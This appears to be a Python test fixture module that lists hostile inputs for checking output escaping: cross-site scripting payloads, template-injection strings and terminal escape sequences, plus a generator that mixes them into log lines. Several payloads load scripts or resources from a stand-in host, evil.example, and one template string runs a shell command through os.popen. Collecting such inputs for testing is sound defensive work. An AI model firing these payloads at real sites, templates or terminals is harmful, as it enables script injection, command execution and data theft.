"""Text that tries to become markup, script, a link or a template in whoever shows it."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

#: Each ends the context it hopes to be in, and then calls alert or loads from elsewhere.
XSS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></section></main><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=//evil.example/x.svg#a></use></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='jav&#x09;ascript:alert(1)'>click</a>",
    "<form action=//evil.example><button>press</button></form>",
    "<button formaction=javascript:alert(1)>press</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style=background:url(//evil.example/x)>",
    "<div hx-get=/agents hx-trigger=load hx-on:htmx:load=alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-vals='js:{a: alert(1)}' hx-get=/ hx-trigger=load>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "'\"><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "` onerror=alert(1) `",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "<script>alert`1`</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u202e<script>alert(1)</script>\u202c",
)
#: Templates of the engines one might have put this text through; each would show 4937775 where it was run.
TEMPLATES: tuple[str, ...] = (
    "{{ 2221*2223 + 492 }}",
    "{% print(2221*2223 + 492) %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ url_for.__globals__ }}",
    "{%- set x = 2221*2223 + 492 -%}{{ x }}",
    "${2221*2223 + 492}",
    "#{2221*2223 + 492}",
    "<%= 2221*2223 + 492 %>",
    "{2221*2223 + 492}",
    "%(2221*2223 + 492)s",
    "{0.__class__}",
    "$name $$ ${name}",
)
RESULT = "4937775"

#: What only a terminal understands, around and inside of markup.
TERMINAL: tuple[str, ...] = (
    "\x1b]0;<script>alert(1)</script>\x07",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    '\x1b]8;;https://evil.example/" onclick=alert(1)\x07click\x1b]8;;\x07',
    "\x1b]52;c;PHNjcmlwdD4=\x07",
    "\x1b]1337;File=inline=1:PHN2Zz4=\x07",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    '\x1b[38;2;255;0;0"onclick=alert(1)m<b>x',
    "\x1b[38;5;999999999m<img src=x onerror=alert(1)>",
    "\x1b[<script>alert(1)</script>m",
    "\x1b[2J\x1b[H\x1b[?1049h",
    "\x1b[6n\x1b[c\x1bP+q544e\x1b\\",
    "\x1b[",
    "\x1b]",
    "\x1b]8;",
    "\x1b",
    "<scr\x1b[0mipt>alert(1)</scr\x1b[1mipt>",
    "over\rwritten<script>alert(1)</script>",
    "\x9b31m\x9d0;x\x9c",
    "\x08\x08\x08\x7f\x00",
)


def log_lines(count: int) -> Iterator[str]:
    """Yield this many different hostile lines for a log."""
    wraps = ("{}", "\x1b[31m{}\x1b[0m", "::error file=x::{}", "--- {}", "+++ {}", "\x1b[1;4;7m{}", "{}\r{}", "a\tb {}")
    made = 0
    while True:
        for wrap, text in product(wraps, (*XSS, *TERMINAL, *TEMPLATES)):
            yield f"{made} " + wrap.format(*(text.replace("\n", " "),) * 2)
            made += 1
            if made == count:
                return
